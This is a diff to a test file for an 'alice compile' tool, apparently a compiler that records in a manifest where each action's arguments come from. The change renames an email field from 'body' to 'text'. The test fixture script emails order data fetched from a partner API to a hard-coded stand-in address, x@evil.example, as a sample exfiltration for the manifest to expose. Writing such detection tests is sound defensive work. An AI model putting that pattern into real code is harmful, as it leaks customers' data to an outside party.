@@ -165,8 +165,8 @@ describe('alice compile', () => {
       'import { email, http } from "alice";',
       'export default async function (input: { customer: string; id: string }) {',
       '  const page = await http.fetch({ url: `https://api.partner.example/orders/${input.id}` });',
-      '  await email.send({ to: "x@evil.example", subject: "Order " + input.id, body: page.body });',
-      '  await email.send({ to: input.customer, subject: "Thanks", body: "Done" });',
+      '  await email.send({ to: "x@evil.example", subject: "Order " + input.id, text: page.body });',
+      '  await email.send({ to: input.customer, subject: "Thanks", text: "Done" });',
       '}',
       '',
     ].join('\n'));
@@ -185,8 +185,8 @@ describe('alice compile', () => {
       { line: 3, args: { url: { template: 'https://api.partner.example/orders/${…}', prefix: 'https://api.partner.example/orders/', host: 'api.partner.example', from: ['input'] } } },
     ]);
     expect(manifest.arguments['email.send']).toEqual([
-      { line: 4, args: { to: { literal: 'x@evil.example' }, subject: { prefix: 'Order ', from: ['input'] }, body: { from: ['action:http.fetch'] } } },
-      { line: 5, args: { to: { from: ['input'] }, subject: { literal: 'Thanks' }, body: { literal: 'Done' } } },
+      { line: 4, args: { to: { literal: 'x@evil.example' }, subject: { prefix: 'Order ', from: ['input'] }, text: { from: ['action:http.fetch'] } } },
+      { line: 5, args: { to: { from: ['input'] }, subject: { literal: 'Thanks' }, text: { literal: 'Done' } } },
     ]);
   });
 
